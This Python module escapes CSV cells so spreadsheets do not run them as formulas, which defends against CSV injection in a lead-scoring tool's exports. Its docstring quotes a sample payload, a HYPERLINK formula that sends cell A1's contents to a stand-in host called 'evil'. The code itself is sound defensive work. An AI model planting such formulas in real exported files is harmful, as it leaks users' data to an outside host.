"""CSV that a spreadsheet opens as data: text cells that would run as formulas are neutralised.

A CRM field holding `=HYPERLINK("http://evil/?"&A1, "click")` or `@SUM(...)` is a formula to
Excel, LibreOffice and Google Sheets when a CSV is opened (CSV injection). As OWASP recommends,
every text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
which spreadsheets show as text. Numbers are numbers: a numeric column is never touched, nor is a
text cell that is a plain number (`-0.5`), which a spreadsheet reads as that number, not a formula.

This is the one rule for every CSV leadml writes: `leadml score -o`, the API's CSV answers and the
ranked-leads page's downloads (which the API renders).
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Sequence
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet cell a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def _is_plain_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def neutralise_cell(value: Any) -> Any:
    """`value`, with a leading `'` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_plain_number(value):
        return ESCAPE + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are neutralised (numeric columns as they are)."""
    safe = frame.copy()
    safe.columns = [neutralise_cell(str(name)) for name in frame.columns]
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if pd.api.types.is_numeric_dtype(column) or pd.api.types.is_bool_dtype(column):
            continue
        safe.isetitem(position, column.map(neutralise_cell, na_action="ignore").to_numpy())
    return safe


def write_csv(frame: pd.DataFrame, target: Any, **options: Any) -> None:
    """`frame.to_csv(target, index=False)`, neutralised."""
    neutralise_frame(frame).to_csv(target, index=False, **options)


def csv_text(columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """Rows (lists of cells) as CSV text with a header row, neutralised, CRLF line ends."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise_cell("" if c is None else str(c)) for c in columns])
    for row in rows:
        writer.writerow(["" if cell is None else neutralise_cell(cell) for cell in row])
    return out.getvalue()
